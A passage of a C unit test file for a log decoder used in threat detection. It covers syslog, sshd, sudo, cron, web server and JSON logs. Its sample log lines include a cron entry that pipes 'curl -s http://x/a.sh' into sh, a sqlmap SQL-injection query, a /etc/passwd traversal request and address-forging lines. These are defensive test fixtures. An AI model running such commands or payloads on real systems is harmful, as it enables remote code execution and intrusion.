/* test_decode.c - log lines into records: syslog (RFC 3164 and 5424) with
 * sshd, sudo, su, account tools and cron messages; nginx and apache access
 * and error logs; JSON lines; sniffing in auto mode; and hostile input
 * (garbage, invalid UTF-8, NUL bytes, 1 MB lines, every cut-short prefix).
 * Prints decode-only speed for 1M sshd and 1M nginx lines (never asserted). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "detect/decode/decode.h"
#include "detect/decode/vocab.h"
#include "detect/record.h"
#include "core/xalloc.h"
#include "core/banned.h"

#define YEAR	2026

static struct record rec;
static char *line_copy;		/* the line the record's views point into */

static int
setup(void **state)
{
	record_init(&rec);
	return 0;
}

static int
teardown(void **state)
{
	record_release(&rec);
	free(line_copy);
	line_copy = NULL;
	return 0;
}

/* Decode an exact copy of text[0..len) (nothing after it, so a read past len
 * is caught by AddressSanitizer). */
static int
decode_n(enum log_format fmt, const char *text, size_t len)
{
	const char *bad = NULL;
	int r;

	free(line_copy);
	line_copy = xmalloc(len ? len : 1);
	memcpy(line_copy, text, len);
	r = decode_line(fmt, line_copy, len, YEAR, &rec);
	/* Every line keeps the line filter's promise (decode/vocab.h). */
	if (decode_check_witnesses(&rec, &bad) < 0)
		fail_msg("field '%s' of '%.*s' is neither in the line nor witnessed", bad,
			(int)(len < 200 ? len : 200), text);
	return r;
}

static int
decode(enum log_format fmt, const char *text)
{
	return decode_n(fmt, text, strlen(text));
}

static void
expect_field(const char *name, const char *want)
{
	const struct record_field *f = record_get(&rec, name);

	if (f == NULL)
		fail_msg("field %s missing (want \"%s\")", name, want);
	if (f->len != strlen(want) || memcmp(f->value, want, f->len) != 0)
		fail_msg("field %s is \"%.*s\", want \"%s\"", name, (int)f->len, f->value, want);
}

static void
expect_absent(const char *name)
{
	const struct record_field *f = record_get(&rec, name);

	if (f != NULL)
		fail_msg("field %s present (\"%.*s\")", name, (int)f->len, f->value);
}

static void
expect_logsource(const char *product, const char *category, const char *service)
{
	assert_string_equal(rec.product, product);
	assert_string_equal(rec.category, category);
	assert_string_equal(rec.service, service);
}

static void
expect_message(const char *want)
{
	assert_int_equal(rec.message_len, strlen(want));
	assert_memory_equal(rec.message, want, rec.message_len);
}

/* UTC ns of a civil UTC time (timegm). */
static int64_t
utc_ns(int y, int mo, int d, int h, int mi, int s)
{
	struct tm tm = { .tm_year = y - 1900, .tm_mon = mo - 1, .tm_mday = d,
			 .tm_hour = h, .tm_min = mi, .tm_sec = s };

	return (int64_t)timegm(&tm) * 1000000000;
}

/* Every field value: no NUL inside, within its bounds. */
static void
check_values(void)
{
	for (unsigned i = 0; i < rec.nfields; i++) {
		assert_non_null(rec.fields[i].name);
		if (rec.fields[i].len > 0)
			assert_null(memchr(rec.fields[i].value, '\0', rec.fields[i].len));
	}
}

/* ---- format names ---- */

static void
format_names_parse(void **state)
{
	enum log_format f;

	assert_int_equal(log_format_parse("auto", &f), 0);
	assert_int_equal(f, LOG_FMT_AUTO);
	assert_int_equal(log_format_parse("syslog", &f), 0);
	assert_int_equal(f, LOG_FMT_SYSLOG);
	assert_int_equal(log_format_parse("nginx", &f), 0);
	assert_int_equal(f, LOG_FMT_NGINX);
	assert_int_equal(log_format_parse("apache", &f), 0);
	assert_int_equal(f, LOG_FMT_APACHE);
	assert_int_equal(log_format_parse("json", &f), 0);
	assert_int_equal(f, LOG_FMT_JSON);
	assert_int_equal(log_format_parse("NGINX", &f), -EINVAL);
	assert_int_equal(log_format_parse("", &f), -EINVAL);
	assert_int_equal(log_format_parse(NULL, &f), -EINVAL);
}

/* ---- syslog framing ---- */

static void
syslog_3164_without_pri(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 web1 sshd[123]: Failed password for root from 1.2.3.4 port 22 ssh2"), 0);
	expect_field("host", "web1");
	expect_field("program", "sshd");
	expect_field("pid", "123");
	expect_field("message", "Failed password for root from 1.2.3.4 port 22 ssh2");
	expect_message("Failed password for root from 1.2.3.4 port 22 ssh2");
	expect_logsource("linux", "", "sshd");
	/* Asia/Shanghai local time: 05:55:36 UTC. */
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));
	assert_int_equal(rec.raw_len, strlen("Nov 22 13:55:36 web1 sshd[123]: Failed password for "
					     "root from 1.2.3.4 port 22 ssh2"));
}

static void
syslog_3164_with_pri_and_padded_day(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<38>Jan  2 03:04:05 h kernel: oops"), 0);
	expect_field("host", "h");
	expect_field("program", "kernel");
	expect_absent("pid");
	expect_field("message", "oops");
	expect_logsource("linux", "", "syslog");
	/* 03:04:05 in UTC+8 is the day before in UTC. */
	assert_int_equal(rec.time_ns, utc_ns(2026, 1, 1, 19, 4, 5));
}

static void
syslog_bad_pri_is_not_syslog(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<999>Nov 22 13:55:36 h p: m"), -EINVAL);
	assert_int_equal(rec.nfields, 0);
	assert_int_equal(rec.raw_len, strlen("<999>Nov 22 13:55:36 h p: m"));
	expect_message("<999>Nov 22 13:55:36 h p: m");
	assert_string_equal(rec.product, "");
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<38Nov 22 13:55:36 h p: m"), -EINVAL);
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Foo 22 13:55:36 h p: m"), -EINVAL);
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 25:55:36 h p: m"), -EINVAL);
	assert_int_equal(decode(LOG_FMT_SYSLOG, ""), -EINVAL);
}

static void
syslog_rfc3339_stamp(void **state)
{
	/* rsyslog's high-precision format. */
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"2026-11-22T13:55:36.250000+08:00 web1 sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; "
		"USER=root ; COMMAND=/usr/bin/id"), 0);
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36) + 250000000);
	expect_field("host", "web1");
	expect_field("program", "sudo");
	expect_field("user", "bob");
	expect_logsource("linux", "", "sudo");
}

static void
syslog_tagless_line(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 sshd[5]: Invalid user a from 192.0.2.1"),
		0);
	expect_absent("host");
	expect_field("program", "sshd");
	expect_field("pid", "5");
	expect_field("user", "a");
	expect_field("src_ip", "192.0.2.1");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 web1 last message repeated 3 times"), 0);
	expect_field("host", "web1");
	expect_absent("program");
	expect_field("message", "last message repeated 3 times");
	expect_logsource("linux", "", "syslog");
}

static void
syslog_5424_with_structured_data(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"<34>1 2026-11-22T05:55:36.123Z mymachine.example.com sshd 4242 ID47 "
		"[exampleSDID@32473 iut=\"3\" eventSource=\"App\\\"li\\]cation\"][x@1 a=\"\"] "
		"\xEF\xBB\xBFInvalid user admin from 10.0.0.9 port 4711"), 0);
	expect_field("host", "mymachine.example.com");
	expect_field("program", "sshd");
	expect_field("pid", "4242");
	expect_field("msgid", "ID47");
	expect_field("exampleSDID@32473.iut", "3");
	expect_field("exampleSDID@32473.eventSource", "App\"li]cation");
	expect_field("x@1.a", "");
	expect_field("message", "Invalid user admin from 10.0.0.9 port 4711");
	expect_field("user", "admin");
	expect_field("src_ip", "10.0.0.9");
	expect_field("src_port", "4711");
	expect_field("outcome", "invalid_user");
	expect_logsource("linux", "", "sshd");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36) + 123000000);
}

static void
syslog_5424_nil_fields(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<13>1 - - - - - - just a message"), 0);
	expect_absent("host");
	expect_absent("program");
	expect_absent("pid");
	expect_absent("msgid");
	expect_field("message", "just a message");
	assert_int_equal(rec.time_ns, 0);
	expect_logsource("linux", "", "syslog");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "<13>1 2026-11-22T13:55:36+08:00 h app - - -"), 0);
	expect_field("host", "h");
	expect_field("program", "app");
	expect_field("message", "");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));

	/* Broken structured data: not RFC 5424. */
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<13>1 - h app - - [id k=\"v] msg"), -EINVAL);
	assert_int_equal(decode(LOG_FMT_SYSLOG, "<13>1 - h app - - [id k=v] msg"), -EINVAL);
	assert_int_equal(rec.nfields, 0);
}

/* ---- sshd ---- */

static void
sshd_failed_password(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[1]: Failed password for "
		"invalid user oracle from 203.0.113.7 port 50122 ssh2"), 0);
	expect_field("user", "oracle");
	expect_field("src_ip", "203.0.113.7");
	expect_field("src_port", "50122");
	expect_field("auth_method", "password");
	expect_field("outcome", "failure");
	expect_field("event", "auth_failed");
	expect_field("invalid_user", "true");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[1]: Failed publickey for "
		"root from 2001:db8::1 port 22 ssh2: RSA SHA256:abc"), 0);
	expect_field("user", "root");
	expect_field("src_ip", "2001:db8::1");
	expect_field("auth_method", "publickey");
	expect_absent("invalid_user");

	/* OpenSSH 9.8 logs as sshd-session. */
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd-session[1]: Failed password "
		"for admin from 192.0.2.77 port 2 ssh2"), 0);
	expect_logsource("linux", "", "sshd");
	expect_field("program", "sshd-session");
	expect_field("user", "admin");
	expect_field("src_ip", "192.0.2.77");
}

static void
sshd_user_name_cannot_forge_the_address(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[1]: Failed password for "
		"invalid user x from 6.6.6.6 port 1 from 198.51.100.2 port 22 ssh2"), 0);
	expect_field("user", "x from 6.6.6.6 port 1");
	expect_field("src_ip", "198.51.100.2");
	expect_field("src_port", "22");
}

static void
sshd_accepted(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Accepted publickey for "
		"deploy from 192.0.2.10 port 40000 ssh2: ED25519 SHA256:xyz"), 0);
	expect_field("user", "deploy");
	expect_field("src_ip", "192.0.2.10");
	expect_field("src_port", "40000");
	expect_field("auth_method", "publickey");
	expect_field("outcome", "success");
	expect_field("event", "auth_accepted");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Accepted password for "
		"bob from 192.0.2.11 port 1 ssh2"), 0);
	expect_field("auth_method", "password");
	expect_field("user", "bob");
}

static void
sshd_invalid_user(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h sshd[9]: Invalid user admin from 192.0.2.1 port 5555"), 0);
	expect_field("user", "admin");
	expect_field("src_ip", "192.0.2.1");
	expect_field("src_port", "5555");
	expect_field("outcome", "invalid_user");
	expect_field("event", "invalid_user");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h sshd[9]: Invalid user  from 192.0.2.1 port 5555"), 0);
	expect_field("user", "");
	expect_field("src_ip", "192.0.2.1");
}

static void
sshd_connection_closed(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Connection closed by "
		"authenticating user root 192.0.2.3 port 61000 [preauth]"), 0);
	expect_field("user", "root");
	expect_field("src_ip", "192.0.2.3");
	expect_field("src_port", "61000");
	expect_field("outcome", "closed");
	expect_field("event", "connection_closed");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Connection closed by "
		"invalid user test 192.0.2.4 port 61001 [preauth]"), 0);
	expect_field("user", "test");
	expect_field("src_ip", "192.0.2.4");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Connection closed by "
		"192.0.2.5 port 61002 [preauth]"), 0);
	expect_absent("user");
	expect_field("src_ip", "192.0.2.5");
	expect_field("src_port", "61002");
	expect_field("outcome", "closed");
}

static void
sshd_disconnected(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Disconnected from "
		"invalid user guest 192.0.2.6 port 3 [preauth]"), 0);
	expect_field("user", "guest");
	expect_field("src_ip", "192.0.2.6");
	expect_field("src_port", "3");
	expect_field("event", "disconnected");
	expect_field("outcome", "closed");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Disconnected from user "
		"bob 192.0.2.7 port 4"), 0);
	expect_field("user", "bob");
	expect_field("src_ip", "192.0.2.7");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: Received disconnect from "
		"192.0.2.8 port 5:11: Bye Bye [preauth]"), 0);
	expect_field("src_ip", "192.0.2.8");
	expect_field("src_port", "5");
	expect_field("event", "disconnected");
}

static void
sshd_max_auth_attempts(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: error: maximum "
		"authentication attempts exceeded for invalid user pi from 192.0.2.9 port 77 ssh2 "
		"[preauth]"), 0);
	expect_field("user", "pi");
	expect_field("src_ip", "192.0.2.9");
	expect_field("src_port", "77");
	expect_field("outcome", "failure");
	expect_field("event", "max_auth_attempts");
	expect_field("invalid_user", "true");
}

static void
sshd_pam_failure(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: pam_unix(sshd:auth): "
		"authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.20  "
		"user=root"), 0);
	expect_field("user", "root");
	expect_field("src_ip", "192.0.2.20");
	expect_field("tty", "ssh");
	expect_field("outcome", "failure");
	expect_field("event", "pam_auth_failure");

	/* No rhost value: no src_ip. */
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: pam_unix(sshd:auth): "
		"authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost= user=x"), 0);
	expect_absent("src_ip");
	expect_field("user", "x");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: pam_unix(sshd:session): "
		"session opened for user root(uid=0) by (uid=0)"), 0);
	expect_field("user", "root");
	expect_field("event", "session_opened");
}

static void
sshd_message_repeated(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sshd[9]: message repeated 5 "
		"times: [ Failed password for root from 192.0.2.30 port 22 ssh2]"), 0);
	expect_field("repeated", "5");
	expect_field("user", "root");
	expect_field("src_ip", "192.0.2.30");
	expect_field("event", "auth_failed");
}

static void
sshd_other_message_has_no_event(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h sshd[9]: Server listening on 0.0.0.0 port 22."), 0);
	expect_logsource("linux", "", "sshd");
	expect_absent("event");
	expect_absent("user");
}

/* ---- sudo, su ---- */

static void
sudo_command(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sudo:      bob : TTY=pts/0 ; "
		"PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c echo a ; echo b"), 0);
	expect_field("user", "bob");
	expect_field("tty", "pts/0");
	expect_field("pwd", "/home/bob");
	expect_field("target_user", "root");
	expect_field("command", "/bin/sh -c echo a ; echo b");
	expect_field("outcome", "success");
	expect_field("event", "command");
	expect_logsource("linux", "", "sudo");
}

static void
sudo_failures(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sudo: bob : 3 incorrect password "
		"attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/passwd root"), 0);
	expect_field("user", "bob");
	expect_field("tty", "pts/1");
	expect_field("pwd", "/tmp");
	expect_field("target_user", "root");
	expect_field("command", "/usr/bin/passwd root");
	expect_field("outcome", "failure");
	expect_field("event", "auth_failed");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sudo: eve : user NOT in sudoers ; "
		"TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"), 0);
	expect_field("user", "eve");
	expect_field("outcome", "failure");
	expect_field("event", "not_in_sudoers");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h sudo: pam_unix(sudo:auth): "
		"authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/0 ruser=bob rhost=  "
		"user=bob"), 0);
	expect_field("user", "bob");
	expect_field("ruser", "bob");
	expect_field("event", "pam_auth_failure");
	expect_field("outcome", "failure");
}

static void
su_forms(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h su[77]: (to root) bob on pts/0"), 0);
	expect_field("target_user", "root");
	expect_field("user", "bob");
	expect_field("tty", "pts/0");
	expect_field("outcome", "success");
	expect_field("event", "su");
	expect_logsource("linux", "", "su");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h su[77]: FAILED SU (to root) mallory on pts/3"), 0);
	expect_field("target_user", "root");
	expect_field("user", "mallory");
	expect_field("tty", "pts/3");
	expect_field("outcome", "failure");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h su: pam_unix(su:auth): "
		"authentication failure; logname=bob uid=1000 euid=0 tty=pts/0 ruser=bob rhost=  "
		"user=root"), 0);
	expect_field("target_user", "root");
	expect_field("user", "bob");
	expect_field("tty", "pts/0");
	expect_field("outcome", "failure");
	expect_field("event", "pam_auth_failure");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h su: Successful su for root by bob"),
		0);
	expect_field("target_user", "root");
	expect_field("user", "bob");
	expect_field("outcome", "success");
}

/* ---- account tools, cron ---- */

static void
accounts_useradd(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h useradd[5]: new user: name=bob, "
		"UID=0, GID=0, home=/home/bob, shell=/bin/bash, from=/dev/pts/0"), 0);
	expect_field("name", "bob");
	expect_field("uid", "0");
	expect_field("gid", "0");
	expect_field("home", "/home/bob");
	expect_field("shell", "/bin/bash");
	expect_field("event", "user_created");
	expect_logsource("linux", "", "auth");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h useradd[5]: new group: name=bob, GID=1001"), 0);
	expect_field("name", "bob");
	expect_field("group", "bob");
	expect_field("gid", "1001");
	expect_field("event", "group_created");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h groupadd[5]: group added to "
		"/etc/group: name=ops, GID=1002"), 0);
	expect_field("group", "ops");
	expect_field("gid", "1002");
	expect_field("event", "group_created");
}

static void
accounts_usermod_passwd_userdel(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h usermod[6]: add 'bob' to group 'sudo'"), 0);
	expect_field("name", "bob");
	expect_field("group", "sudo");
	expect_field("event", "group_member_added");
	expect_logsource("linux", "", "auth");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h usermod[6]: change user 'bob' UID from '1000' to '0'"), 0);
	expect_field("name", "bob");
	expect_field("uid", "0");
	expect_field("event", "uid_changed");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h passwd[7]: pam_unix(passwd:chauthtok): password changed for bob"), 0);
	expect_field("name", "bob");
	expect_field("event", "password_changed");

	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:36 h userdel[8]: delete user 'bob'"), 0);
	expect_field("name", "bob");
	expect_field("event", "user_deleted");

	assert_int_equal(decode(LOG_FMT_SYSLOG,
		"Nov 22 13:55:36 h userdel[8]: removed group 'bob' owned by 'bob'"), 0);
	expect_field("group", "bob");
	expect_field("event", "group_deleted");
}

static void
cron_command(void **state)
{
	assert_int_equal(decode(LOG_FMT_SYSLOG, "Nov 22 13:55:01 h CRON[9]: (root) CMD (curl -s "
		"http://x/a.sh | sh)"), 0);
	expect_field("user", "root");
	expect_field("command", "curl -s http://x/a.sh | sh");
	expect_field("event", "cmd");
	expect_logsource("linux", "", "cron");
}

/* ---- web access logs ---- */

static const char *const nginx_line =
	"203.0.113.9 - alice [10/Oct/2000:13:55:36 -0700] \"GET /a/b.php?id=1%27+or+1=1&x= HTTP/1.1\" "
	"200 2326 \"http://ref.example/\" \"Mozilla/5.0 (sqlmap/1.7)\"";

static void
access_combined(void **state)
{
	assert_int_equal(decode(LOG_FMT_NGINX, nginx_line), 0);
	expect_field("c-ip", "203.0.113.9");
	expect_field("cs-username", "alice");
	expect_field("cs-method", "GET");
	expect_field("cs-uri", "/a/b.php?id=1%27+or+1=1&x=");
	expect_field("cs-uri-stem", "/a/b.php");
	expect_field("cs-uri-query", "id=1%27+or+1=1&x=");
	expect_field("cs-version", "HTTP/1.1");
	expect_field("sc-status", "200");
	expect_field("sc-bytes", "2326");
	expect_field("cs-referer", "http://ref.example/");
	expect_field("cs-user-agent", "Mozilla/5.0 (sqlmap/1.7)");
	expect_absent("cs-host");
	expect_logsource("", "webserver", "nginx");
	assert_int_equal(rec.time_ns, utc_ns(2000, 10, 10, 20, 55, 36));

	assert_int_equal(decode(LOG_FMT_APACHE, nginx_line), 0);
	expect_logsource("", "webserver", "apache");
	assert_int_equal(decode(LOG_FMT_AUTO, nginx_line), 0);
	expect_logsource("", "webserver", "");
	expect_field("cs-uri-query", "id=1%27+or+1=1&x=");
}

static void
access_dashes_escapes_and_no_query(void **state)
{
	assert_int_equal(decode(LOG_FMT_NGINX, "::1 - - [22/Nov/2026:13:55:36 +0800] "
		"\"POST /x\\\"y HTTP/2.0\" 404 - \"-\" \"a \\\"b\\\" c\""), 0);
	expect_field("c-ip", "::1");
	expect_absent("cs-username");
	expect_field("cs-method", "POST");
	expect_field("cs-uri", "/x\\\"y");
	expect_field("cs-uri-stem", "/x\\\"y");
	expect_absent("cs-uri-query");
	expect_field("sc-status", "404");
	expect_absent("sc-bytes");
	expect_field("cs-referer", "-");
	expect_field("cs-user-agent", "a \\\"b\\\" c");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));
}

static void
access_vhost_and_common(void **state)
{
	/* apache vhost_combined */
	assert_int_equal(decode(LOG_FMT_APACHE, "www.example.com:443 192.0.2.1 - - "
		"[22/Nov/2026:13:55:36 +0800] \"GET /?q HTTP/1.0\" 301 0 \"-\" \"curl/8\""), 0);
	expect_field("cs-host", "www.example.com:443");
	expect_field("c-ip", "192.0.2.1");
	expect_field("cs-uri-stem", "/");
	expect_field("cs-uri-query", "q");
	expect_field("sc-bytes", "0");
	expect_field("cs-user-agent", "curl/8");

	/* common log format: no referer, no agent */
	assert_int_equal(decode(LOG_FMT_NGINX,
		"192.0.2.2 - - [22/Nov/2026:13:55:36 +0800] \"GET /index.html HTTP/1.1\" 200 12"), 0);
	expect_field("sc-status", "200");
	expect_field("sc-bytes", "12");
	expect_absent("cs-referer");
	expect_absent("cs-user-agent");

	/* a garbage request line from a scanner */
	assert_int_equal(decode(LOG_FMT_NGINX,
		"192.0.2.2 - - [22/Nov/2026:13:55:36 +0800] \"\\x16\\x03\\x01\" 400 150 \"-\" \"-\""), 0);
	expect_absent("cs-method");
	expect_field("sc-status", "400");
}

static void
access_bad_shapes(void **state)
{
	assert_int_equal(decode(LOG_FMT_NGINX,
		"192.0.2.2 - - [22/Foo/2026:13:55:36 +0800] \"GET / HTTP/1.1\" 200 1"), -EINVAL);
	assert_int_equal(rec.nfields, 0);
	assert_string_equal(rec.category, "");
	assert_int_equal(decode(LOG_FMT_NGINX,
		"192.0.2.2 - - [22/Nov/2026:13:55:36 +0800] \"GET / HTTP/1.1 200 1"), -EINVAL);
	assert_int_equal(decode(LOG_FMT_NGINX, "192.0.2.2 [22/Nov/2026:13:55:36 +0800] \"GET /\""),
		-EINVAL);
	assert_int_equal(decode(LOG_FMT_APACHE, "hello world"), -EINVAL);
	expect_message("hello world");
}

/* ---- web error logs ---- */

static void
nginx_error_log(void **state)
{
	assert_int_equal(decode(LOG_FMT_NGINX, "2026/11/22 13:55:36 [error] 123#0: *1 open() "
		"\"/srv/www/x.php\" failed (2: No such file or directory), client: 192.0.2.1, server: "
		"www.example.com, request: \"GET /x.php?a=b HTTP/1.1\", host: \"www.example.com\""), 0);
	expect_field("level", "error");
	expect_field("pid", "123");
	expect_field("message",
		"open() \"/srv/www/x.php\" failed (2: No such file or directory)");
	expect_field("c-ip", "192.0.2.1");
	expect_field("server", "www.example.com");
	expect_field("cs-method", "GET");
	expect_field("cs-uri", "/x.php?a=b");
	expect_field("cs-uri-stem", "/x.php");
	expect_field("cs-uri-query", "a=b");
	expect_field("cs-host", "www.example.com");
	expect_logsource("", "", "nginx");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));

	/* A path that forges the tail: the real one is the one that parses to
	 * the end of the line. */
	assert_int_equal(decode(LOG_FMT_NGINX, "2026/11/22 13:55:36 [error] 9#9: *7 open() \"/srv/x, "
		"client: 6.6.6.6, server: a, request: \"\" failed (2: No such file), client: 192.0.2.50, "
		"server: s, request: \"GET /x, client: 7.7.7.7, server: b HTTP/1.1\", upstream: "
		"\"http://127.0.0.1:9000\", host: \"h\", referrer: \"r, client: 8.8.8.8, server: c\""), 0);
	expect_field("c-ip", "192.0.2.50");
	expect_field("server", "s");
	expect_field("cs-uri", "/x, client: 7.7.7.7, server: b");
	expect_field("upstream", "http://127.0.0.1:9000");
	expect_field("cs-host", "h");
	expect_field("cs-referer", "r, client: 8.8.8.8, server: c");
	expect_field("message", "open() \"/srv/x, client: 6.6.6.6, server: a, request: \"\" failed "
		"(2: No such file)");

	/* Cut short inside the request: the address still found. */
	assert_int_equal(decode(LOG_FMT_NGINX, "2026/11/22 13:55:36 [error] 9#9: *7 m, client: "
		"192.0.2.51, server: s, request: \"GET /ab"), 0);
	expect_field("c-ip", "192.0.2.51");
	expect_absent("cs-method");

	/* Sniffed in auto mode too; a message without the client tail. */
	assert_int_equal(decode(LOG_FMT_AUTO, "2026/11/22 13:55:36 [notice] 1#1: signal process started"),
		0);
	expect_field("level", "notice");
	expect_field("message", "signal process started");
	expect_absent("c-ip");
	expect_logsource("", "", "nginx");
}

static void
apache_error_log(void **state)
{
	assert_int_equal(decode(LOG_FMT_APACHE, "[Sun Nov 22 13:55:36.123456 2026] [core:error] "
		"[pid 1234:tid 5678] [client 192.0.2.7:5678] AH00126: Invalid URI in request GET "
		"/../../etc/passwd HTTP/1.1, referer: http://r.example/"), 0);
	expect_field("module", "core");
	expect_field("level", "error");
	expect_field("pid", "1234");
	expect_field("c-ip", "192.0.2.7");
	expect_field("cs-referer", "http://r.example/");
	expect_message("AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1, referer: "
		       "http://r.example/");
	expect_logsource("", "", "apache");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));

	/* apache 2.2, sniffed */
	assert_int_equal(decode(LOG_FMT_AUTO, "[Sun Nov 22 13:55:36 2026] [error] [client 192.0.2.8] "
		"File does not exist: /var/www/favicon.ico"), 0);
	expect_field("level", "error");
	expect_field("c-ip", "192.0.2.8");
	expect_field("message", "File does not exist: /var/www/favicon.ico");
	expect_logsource("", "", "apache");
}

/* ---- JSON lines ---- */

static void
json_fields_and_nesting(void **state)
{
	assert_int_equal(decode(LOG_FMT_JSON, " {\"msg\":\"hi\",\"n\":-12.5e3,\"ok\":true,\"no\":false,"
		"\"nil\":null,\"arr\":[1,{\"a\":2},[\"x\"]],\"src\":{\"ip\":\"192.0.2.1\",\"geo\":{"
		"\"cc\":\"CN\"}},\"empty\":{},\"@timestamp\":\"2026-11-22T05:55:36Z\"} "), 0);
	expect_field("msg", "hi");
	expect_field("n", "-12.5e3");
	expect_field("ok", "true");
	expect_field("no", "false");
	expect_absent("nil");
	expect_absent("arr");
	expect_absent("a");
	expect_field("src.ip", "192.0.2.1");
	expect_field("src.geo.cc", "CN");
	expect_message("hi");
	assert_int_equal(rec.time_ns, utc_ns(2026, 11, 22, 5, 55, 36));
	expect_logsource("", "", "");
}

static void
json_escapes(void **state)
{
	assert_int_equal(decode(LOG_FMT_JSON, "{\"a\\\"b\":\"q\\\"\\\\\\/\\b\\f\\n\\r\\t\","
		"\"u\":\"\\u00e9\\u4e2d\\ud83d\\ude00\",\"lone\":\"\\ud800x\","
		"\"nul\":\"ab\\u0000cd\",\"k\\u0041\":\"v\"}"), 0);
	expect_field("a\"b", "q\"\\/\b\f\n\r\t");
	expect_field("u", "\xC3\xA9\xE4\xB8\xAD\xF0\x9F\x98\x80");
	expect_field("lone", "\xEF\xBF\xBDx");
	expect_field("nul", "ab");
	expect_field("kA", "v");
	check_values();
}

static void
json_depth_limit(void **state)
{
	char buf[4096];
	size_t n = 0;

	/* Ten levels: fields down to eight. */
	for (int i = 0; i < 10; i++)
		n += (size_t)snprintf(buf + n, sizeof(buf) - n, "{\"%c\":", 'a' + i);
	n += (size_t)snprintf(buf + n, sizeof(buf) - n, "\"deep\",\"v\":\"x\"");
	for (int i = 0; i < 10; i++)
		buf[n++] = '}';
	assert_int_equal(decode_n(LOG_FMT_JSON, buf, n), 0);
	assert_int_equal(rec.nfields, 0);

